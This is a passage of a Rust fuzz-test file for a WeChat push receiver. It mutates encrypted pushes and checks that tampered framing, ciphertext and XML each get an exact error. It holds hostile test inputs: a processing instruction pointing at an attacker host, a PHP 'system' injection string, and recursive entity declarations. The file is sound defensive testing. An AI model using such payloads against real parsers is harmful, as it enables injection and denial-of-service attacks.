        prop_oneof![1u32..40, Just(u32::MAX), Just(1 << 31), 40u32..100_000]
            .prop_map(|extra| Mutation::LengthOver { extra }),
        (1usize..10_000).prop_map(|less| Mutation::LengthUnder { less }),
        (0u8..6, index()).prop_map(|(how, at)| Mutation::WrongAppid { how, at }),
        (1usize..10_000).prop_map(|cut| Mutation::MessageCut { cut }),
        index().prop_map(|at| Mutation::NotUtf8 { at }),
        (0usize..20).prop_map(|len| Mutation::TooShort { len }),
        index().prop_map(|which| Mutation::DropField { which }),
        (index(), select(vec!["", " ", "\n\t ", "\u{3000}"]))
            .prop_map(|(which, blank)| Mutation::BlankField { which, blank }),
        (
            index(),
            prop_oneof![
                Just("0".to_owned()),
                Just("-1".to_owned()),
                Just("-9223372036854775808".to_owned()),
                Just("9223372036854775808".to_owned()),
                "[1-9][0-9]{19,40}",
                "-[1-9][0-9]{0,25}",
                Just("1e9".to_owned()),
                Just("1.5".to_owned()),
                Just("0x10".to_owned()),
                Just("１２３".to_owned()),
                Just("12 34".to_owned()),
                Just("--1".to_owned()),
                "[0-9]{1,5}[a-z:]{1,3}",
            ]
        )
            .prop_map(|(which, text)| Mutation::BadTime { which, text }),
        (0..HOSTILE_DOCTYPES.len(), index())
            .prop_map(|(payload, place)| Mutation::Doctype { payload, place }),
        ("[a-zA-Z_][a-zA-Z0-9_.-]{0,12}", index())
            .prop_filter("not a predefined entity", |(name, _)| {
                !["lt", "gt", "amp", "apos", "quot"].contains(&name.as_str())
            })
            .prop_map(|(name, leaf)| Mutation::UnknownEntity { name, leaf }),
        (
            select(vec![
                "&#0;",
                "&#xD800;",
                "&#x110000;",
                "&#99999999999;",
                "&#;",
                "&#x;",
                "&#-1;",
                "&#12a;",
            ]),
            index()
        )
            .prop_map(|(text, leaf)| Mutation::BadCharRef { text, leaf }),
        (0usize..5, index()).prop_map(|(place, at)| Mutation::ProcessingInstruction { place, at }),
        (index(), prop_oneof![0usize..=20, 17usize..3000])
            .prop_map(|(element, count)| Mutation::Attributes { element, count }),
        index().prop_map(|at| Mutation::Truncate { at }),
        index().prop_map(|leaf| Mutation::BadClose { leaf }),
        Just(Mutation::SecondRoot),
        index().prop_map(|at| Mutation::Comment { at }),
    ]
}

/// What a mutation must lead to.
#[derive(Debug)]
enum Expect {
    /// Exactly the generated push.
    Accepted,
    Refused(Refused),
    /// `XmlError::Malformed`, whatever quick-xml's message.
    Malformed,
    /// The outcome of the envelope as parsed: refused for its XML, or (Encrypt changed) for
    /// its signature, or (Encrypt intact) accepted.
    EnvelopeTampered,
    /// Whatever the model of the framing says for this Encrypt.
    Model,
}

fn crypto_err(e: CryptoError) -> Expect {
    Expect::Refused(Refused::Crypto(e))
}

fn push_err(e: PushError) -> Expect {
    Expect::Refused(Refused::Push(e))
}

/// The names of the fields `ComponentPush::parse` requires for this push, in its order.
fn required_fields(kind: &Kind) -> Vec<&'static str> {
    let mut names = vec!["AppId", "CreateTime", "InfoType"];
    match kind {
        Kind::Ticket(_) => names.push("ComponentVerifyTicket"),
        Kind::Authorized(_) | Kind::UpdateAuthorized(_) => names.extend([
            "AuthorizerAppid",
            "AuthorizationCode",
            "AuthorizationCodeExpiredTime",
        ]),
        Kind::Unauthorized(_) => names.push("AuthorizerAppid"),
        Kind::Other(_) => {}
    }
    names
}

/// A mutated push: what is delivered, what must come of it, the leaves rendered and the
/// Encrypt value sent.
type Mutated = (Delivery, Expect, Vec<(Vec<String>, String)>, String);

fn mutated(spec: &PushSpec, mutation: &Mutation) -> Mutated {
    let mut leaves = spec.leaves();
    let mut mix = Mix(spec.render ^ 0x5eed);
    let mut inject = Inject::default();
    let mut expect = Expect::Accepted;
    let n = leaves.len();
    let position = |name: &str, leaves: &[(Vec<String>, String)]| {
        leaves
            .iter()
            .position(|(path, _)| path.len() == 1 && path[0] == name)
            .unwrap()
    };

    // Inner XML mutations change what is rendered.
    match mutation {
        Mutation::DropField { which } | Mutation::BlankField { which, .. } => {
            let required = required_fields(&spec.kind);
            let name = required[which % required.len()];
            let at = position(name, &leaves);
            if let Mutation::BlankField { blank, .. } = mutation {
                leaves[at].1 = (*blank).to_owned();
            } else {
                leaves.remove(at);
            }
            expect = push_err(PushError::MissingField(name));
        }
        Mutation::BadTime { which, text } => {
            let fields: &[&'static str] = match spec.kind {
                Kind::Authorized(_) | Kind::UpdateAuthorized(_) => {
                    &["CreateTime", "AuthorizationCodeExpiredTime"]
                }
                _ => &["CreateTime"],
            };
            let field = fields[which % fields.len()];
            let at = position(field, &leaves);
            leaves[at].1 = text.clone();
            expect = push_err(PushError::BadTime { field });
        }
        Mutation::Doctype { payload, place } => {
            let payload = HOSTILE_DOCTYPES[*payload];
            expect = push_err(PushError::Xml(XmlError::Doctype));
            match place % 5 {
                0 => inject.prolog = payload.to_owned(),
                1 => inject.epilog = payload.to_owned(),
                2 => inject.between = Some((place % (n + 1), payload.to_owned())),
                3 => inject.in_leaf = Some((place % n, payload.to_owned())),
                // As a field's text (escaped or in CDATA) it is a user's words: read as written.
                _ => {
                    let field = (vec!["userText".to_owned()], payload.to_owned());
                    leaves.insert(place % (n + 1), field);
                    expect = Expect::Accepted;
                }
            }
        }
        Mutation::UnknownEntity { name, leaf } => {
            inject.in_leaf = Some((leaf % n, format!("&{name};")));
            expect = push_err(PushError::Xml(XmlError::UnknownEntity));
        }
        Mutation::BadCharRef { text, leaf } => {
            inject.in_leaf = Some((leaf % n, (*text).to_owned()));
            expect = Expect::Malformed;
        }
        Mutation::ProcessingInstruction { place, at } => {
            let pi = "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.invalid/x\"?>";
            match place {
                0 => inject.prolog = pi.to_owned(),
                1 => inject.epilog = pi.to_owned(),
                2 => inject.between = Some((at % (n + 1), pi.to_owned())),
                // A declaration anywhere but at the very start is an instruction too.
                3 => {
                    let decl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>".to_owned();
                    inject.between = Some((at % (n + 1), decl));
                }
                _ => inject.in_leaf = Some((at % n, "<?php system('id'); ?>".to_owned())),
            }
            expect = push_err(PushError::Xml(XmlError::ProcessingInstruction));
        }
        Mutation::Attributes { element, count } => {
            let element = element % (n + 1);
            // Attributes go on the opening tag of a leaf; a leaf nested in containers is fine.
            inject.attributes = Some((element, *count));
            if *count > 16 {
                expect = push_err(PushError::Xml(XmlError::TooLarge));
            }
        }
        Mutation::BadClose { leaf } => {
            inject.bad_close = Some(leaf % n);
            expect = Expect::Malformed;
        }
        Mutation::SecondRoot => {
            inject.epilog = "<xml><AppId>x</AppId></xml>".to_owned();
            expect = Expect::Malformed;
        }
        Mutation::Comment { at } => {
            inject.between = Some((at % (n + 1), "<!-- <AppId>wxforged</AppId> -->".to_owned()));
        }
        _ => {}
    }
    let mut xml = render(&leaves, &mut mix, &inject);
    if let Mutation::Truncate { at } = mutation {
        let mut cut = at % xml.len();
        while !xml.is_char_boundary(cut) {
            cut -= 1;
        }
        let root_end = xml.rfind("</xml>").unwrap() + "</xml>".len();
        // Past the root only layout is cut, unless the cut leaves a comment open.
        let open_comment = cut >= root_end && {
            let tail = &xml[root_end..cut];
            tail.contains('<') && !tail.trim_end().ends_with("-->")
        };
        if cut < root_end || open_comment {
            expect = Expect::Malformed;
        }
        xml.truncate(cut);
    }

    // Framing and ciphertext mutations change what is encrypted.
    let message = xml.as_bytes();
    let appid = APPID.as_bytes();
    let length = message.len() as u32;
    let random = &spec.random;
    let mut encrypt = match mutation {
        Mutation::Padding(pad) => {
            expect = match pad {
                Pad::Pkcs7Block16 | Pad::Wechat => expect,
                _ => crypto_err(CryptoError::IllegalBuffer),
            };
            frame(random, length, message, appid, *pad)
        }
        Mutation::LengthOver { extra } => {
            let declared = length.saturating_add(*extra);
            expect = if (declared - length) as usize > appid.len() {
                crypto_err(CryptoError::IllegalBuffer)
            } else {
                crypto_err(CryptoError::ValidateAppid)
            };
            frame(random, declared, message, appid, Pad::Wechat)
        }
        Mutation::LengthUnder { less } => {
            let less = 1 + less % message.len();
            expect = crypto_err(CryptoError::ValidateAppid);
            frame(random, length - less as u32, message, appid, Pad::Wechat)
        }
        Mutation::WrongAppid { how, at } => {
            let mut other = appid.to_vec();
            match how {
                0 => other[at % appid.len()] ^= 0x01,
                1 => {
                    other.truncate(at % appid.len());
                }
                2 => other.push(b'0'),
                3 => other.make_ascii_uppercase(),
                4 => other = b"wx0000000000000000".to_vec(),
                _ => other.clear(),
            }
            expect = crypto_err(CryptoError::ValidateAppid);
            frame(random, length, message, &other, Pad::Wechat)
        }
        Mutation::MessageCut { cut } => {
            let cut = 1 + cut % message.len();
            expect = if cut > appid.len() {
                crypto_err(CryptoError::IllegalBuffer)
            } else {
                crypto_err(CryptoError::ValidateAppid)
            };
            frame(
                random,
                length,
                &message[..message.len() - cut],
                appid,
                Pad::Wechat,
            )
        }
        Mutation::NotUtf8 { at } => {
            let mut bytes = message.to_vec();
            let at = at % bytes.len();
            bytes[at] = 0xff;
            expect = crypto_err(CryptoError::IllegalBuffer);
            frame(random, length, &bytes, appid, Pad::Wechat)
        }
        Mutation::TooShort { len } => {
            expect = crypto_err(CryptoError::IllegalBuffer);
            let mut plain = random.to_vec();
            plain.extend_from_slice(&length.to_be_bytes());
            plain.truncate(*len);
            let pad = 32 - plain.len() % 32;
            plain.resize(plain.len() + pad, pad as u8);
            aes_encrypt_raw(&plain)
        }
        _ => CRYPTO.encrypt_with_random(random, &xml),
    };

    match mutation {
        Mutation::Base64Junk { at, junk } => {
            let at = at % (encrypt.len() + 1);
            encrypt.insert(at, *junk);
            expect = crypto_err(CryptoError::DecodeBase64);
        }
        Mutation::Base64Padding { remove } => {
            if *remove {
                encrypt.pop();
            } else {
                encrypt.push('=');
            }
            expect = crypto_err(CryptoError::DecodeBase64);
        }
        Mutation::PartialBlock { cut, bytes } => {
            let mut raw = STANDARD.decode(&encrypt).unwrap();
            if *cut {
                raw.truncate(raw.len() - bytes);
            } else {
                raw.extend(std::iter::repeat_n(0x41, *bytes));
            }
            encrypt = STANDARD.encode(raw);
            expect = crypto_err(CryptoError::DecryptAes);
        }
        Mutation::CipherBit { at, bit } => {
            let mut raw = STANDARD.decode(&encrypt).unwrap();
            let len = raw.len();
            raw[at % len] ^= 1 << bit;
            encrypt = STANDARD.encode(raw);
            expect = Expect::Model;
        }
        Mutation::CipherTruncate { blocks } => {
            let mut raw = STANDARD.decode(&encrypt).unwrap();
            raw.truncate(raw.len().saturating_sub(16 * blocks));
            encrypt = STANDARD.encode(raw);
            expect = Expect::Model;
        }
        Mutation::CipherAppend { block } => {
            let mut raw = STANDARD.decode(&encrypt).unwrap();
            raw.extend_from_slice(block);
            encrypt = STANDARD.encode(raw);
            expect = Expect::Model;
        }
        Mutation::CipherSwap { a, b } => {
            let mut raw = STANDARD.decode(&encrypt).unwrap();
            let blocks = raw.len() / 16;
            let (a, b) = (a % blocks, b % blocks);
            for i in 0..16 {
                raw.swap(a * 16 + i, b * 16 + i);
            }
            encrypt = STANDARD.encode(raw);
            expect = Expect::Model;
        }
        _ => {}
    }

    let mut delivery = deliver(spec, &encrypt, &mut mix);
    if encrypt.is_empty() {
        expect = push_err(PushError::MissingField("Encrypt"));
    }
    if let Mutation::EnvelopeBit { at, bit } = mutation {
        let mut bytes = delivery.body.clone().into_bytes();
        let at = at % bytes.len();
        // Only ASCII bytes, so the body stays UTF-8 (the receiver refuses other bodies first).
        if bytes[at].is_ascii() {
            bytes[at] ^= 1 << bit;
        }
        delivery.body = String::from_utf8(bytes).unwrap();
        expect = Expect::EnvelopeTampered;
    }
    (delivery, expect, leaves, encrypt)
}

#[test]
fn mutated_pushes_are_refused_with_the_exact_error() {
    let cases = (push_spec(), mutation());
    fuzz("mutated pushes", 100_000, cases, |(spec, mutation)| {
        let (delivery, expect, leaves, encrypt) = mutated(&spec, &mutation);
        let outcome = open(&delivery);
        match expect {
            Expect::Accepted => assert_accepted(&outcome, &spec, &leaves, &encrypt),
            Expect::Refused(refused) => assert_eq!(outcome.as_ref().err(), Some(&refused)),
            Expect::Malformed => assert!(
                matches!(
                    outcome,
                    Err(Refused::Push(PushError::Xml(XmlError::Malformed(_))))
                ),
                "{outcome:?}"
            ),
            Expect::EnvelopeTampered => {
                match Envelope::parse(&delivery.body) {
                    Err(e) => assert_eq!(outcome.as_ref().err(), Some(&Refused::Push(e))),
                    Ok(envelope) => {
                        let signed = CRYPTO.verify_signature(
                            &delivery.msg_signature,
                            &delivery.timestamp,
                            &delivery.nonce,
                            &envelope.encrypt,
                        );
                        if signed.is_err() {
                            assert_eq!(
                                outcome.as_ref().err(),
                                Some(&Refused::Crypto(CryptoError::ValidateSignature))
                            );
                        } else {
                            // Encrypt intact: the push is the generated one, whatever else
                            // the flip touched.
                            let (_, push) = outcome.as_ref().expect("an intact Encrypt");
                            assert_push(push, &spec, &leaves);
                        }
                    }
                }
            }
            Expect::Model => {
                let envelope = Envelope::parse(&delivery.body).unwrap();
                match model_decrypt(&envelope.encrypt) {
                    Err(e) => assert_eq!(outcome.as_ref().err(), Some(&Refused::Crypto(e))),
                    Ok(xml) => match ComponentPush::parse(&xml) {
                        Err(e) => assert_eq!(outcome.as_ref().err(), Some(&Refused::Push(e))),
                        Ok(push) => assert_eq!(outcome.as_ref().unwrap().1, push),
                    },
                }
            }
        }
        let name: String = format!("{mutation:?}")
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        format!("{name}: {}", outcome_label(&outcome))
    });
}

// ---------------------------------------------------------------------------------------------
// 3. Arbitrary input

const XML_TOKENS: [&str; 40] = [
    "<xml>",
    "</xml>",
    "<AppId>",
    "</AppId>",
    "<Encrypt>",
    "</Encrypt>",
    "<A>",
    "</A>",
    "<a/>",
    "<![CDATA[",
    "]]>",
    "<!DOCTYPE xml [",
    "<!ENTITY a \"&a;&a;\">",
    "]>",
    "&amp;",
    "&lol;",
    "&#",
    "x",
    ";",
    "<?pi ?>",
    "<?xml version=\"1.0\"?>",
    "<!--",
    "-->",
    "<",
    ">",
    "/>",
    "=",
    "\"",
    "'",
    " ",
    "\n",
    "\r",
    "wx",
    "+/=",
    "AAAA",
    "&#x4e2d;",
    "<!",
    "<x a=\"1\" b='2'>",
    "</",
    "\u{0}",
];

fn arbitrary_input() -> impl Strategy<Value = String> {
    prop_oneof![
        2 => any::<String>(),
        2 => proptest::collection::vec(any::<u8>(), 0..300)
            .prop_map(|b| String::from_utf8_lossy(&b).into_owned()),
        4 => proptest::collection::vec(select(XML_TOKENS.to_vec()), 0..60)
            .prop_map(|t| t.concat()),
        1 => proptest::collection::vec(
            select("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=".chars().collect::<Vec<_>>()),
            0..200,
        )
        .prop_map(String::from_iter),
        // Well-formed base64 of whole blocks: decrypts to noise the model must agree on.
        2 => proptest::collection::vec(any::<[u8; 16]>(), 0..12)
            .prop_map(|blocks| STANDARD.encode(blocks.concat())),
        1 => proptest::collection::vec(any::<u8>(), 0..100).prop_map(|b| STANDARD.encode(b)),
    ]
}

/// An independent model of where a document holds markup the reader must refuse: a DOCTYPE
/// or entity declaration, or a processing instruction (an XML declaration counts as one
/// anywhere but at the very start). Walks the markup left to right, skipping what cannot hold
/// markup: CDATA sections, comments and quoted attribute values; escaped text has no `<`.
fn has_refused_markup(input: &str) -> bool {
    let bytes = input.as_bytes();
    let starts = |at: usize, prefix: &str, any_case: bool| {
        bytes.get(at..at + prefix.len()).is_some_and(|b| {
            if any_case {
                b.eq_ignore_ascii_case(prefix.as_bytes())
            } else {
                b == prefix.as_bytes()
            }
        })
    };
    let skip_past = |at: usize, end: &str| {
        input[at..]
            .find(end)
            .map_or(bytes.len(), |i| at + i + end.len())
    };
    let mut at = 0;
    while let Some(i) = input[at..].find('<') {
        at += i;
        if starts(at, "<![CDATA[", false) {
            at = skip_past(at + 9, "]]>");
        } else if starts(at, "<!--", false) {
            at = skip_past(at + 4, "-->");
        } else if starts(at, "<!DOCTYPE", true) || starts(at, "<!ENTITY", true) {
            return true;
        } else if starts(at, "<?", false) {
            let declaration = at == 0
                && starts(at, "<?xml", false)
                && bytes
                    .get(5)
                    .is_some_and(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b'?'));
            // An unclosed declaration is refused as an instruction all the same.
            if !declaration || !input[at + 2..].contains("?>") {
                return true;
            }
            at = skip_past(at + 2, "?>");
        } else {
            // A tag (or stray `<`): to its `>`, quoted values whole.
            at += 1;
            let mut quote = None;
            while let Some(&b) = bytes.get(at) {
                at += 1;
                match (quote, b) {
                    (None, b'>') => break,
                    (None, b'"' | b'\'') => quote = Some(b),
                    (Some(q), b) if b == q => quote = None,
                    _ => {}
                }
            }
        }
    }
    false
}

#[test]
fn arbitrary_input_gets_a_typed_answer_from_every_layer() {
    fuzz(
        "arbitrary input",
        800_000,
        (arbitrary_input(), any::<bool>()),
        |(input, wrapped)| {
            let input = if wrapped {
                format!("<xml><AppId>{APPID}</AppId><Encrypt>{input}</Encrypt></xml>")
            } else {
                input
            };
            let fields = xml::parse(&input);
            // Refused wherever such markup is, and only there: the same words as text pass.
            let markup = has_refused_markup(&input);
            if markup {
                assert!(fields.is_err(), "accepted markup: {input:?}");
            }
            if matches!(
                fields,
                Err(XmlError::Doctype | XmlError::ProcessingInstruction)
            ) {
                assert!(markup, "refused as markup where there is none: {input:?}");
            }
            if let Ok(fields) = &fields {
                assert!(fields.iter().count() <= 256);
            }
            // The envelope and the message read exactly what the XML reader read.
            let envelope = Envelope::parse(&input);
            let push = ComponentPush::parse(&input);
            match &fields {
                Err(e) => {
                    assert_eq!(envelope, Err(PushError::Xml(e.clone())));
                    assert_eq!(push, Err(PushError::Xml(e.clone())));
                }
                Ok(fields) => {
                    let expected = match fields.get("Encrypt").filter(|e| !e.is_empty()) {
                        Some(encrypt) => Ok(Envelope {
                            app_id: fields.get("AppId").map(str::to_owned),
                            to_user_name: fields.get("ToUserName").map(str::to_owned),
                            encrypt: encrypt.to_owned(),
                        }),
                        None => Err(PushError::MissingField("Encrypt")),
                    };
                    assert_eq!(envelope, expected);
                }
            }
            // Decryption of anything agrees with the model; a signature of anything fails.
            assert_eq!(CRYPTO.decrypt(&input), model_decrypt(&input));
            if let Ok(envelope) = &envelope {
                assert_eq!(
                    CRYPTO.decrypt(&envelope.encrypt),
                    model_decrypt(&envelope.encrypt)
                );
            }
            assert_eq!(
                CRYPTO.verify_signature(&input, "1", "2", &input),
                Err(CryptoError::ValidateSignature)
            );
            let outcome = open(&Delivery {
                msg_signature: input.clone(),
                timestamp: "1".into(),
                nonce: "2".into(),
                body: input,
            });
            assert!(outcome.is_err());
            match fields {
                Ok(_) => "xml read".into(),
                Err(e) => format!(
                    "xml {}",
                    outcome_label(&Err(Refused::Push(PushError::Xml(e))))
                ),
            }
        },
    );
}
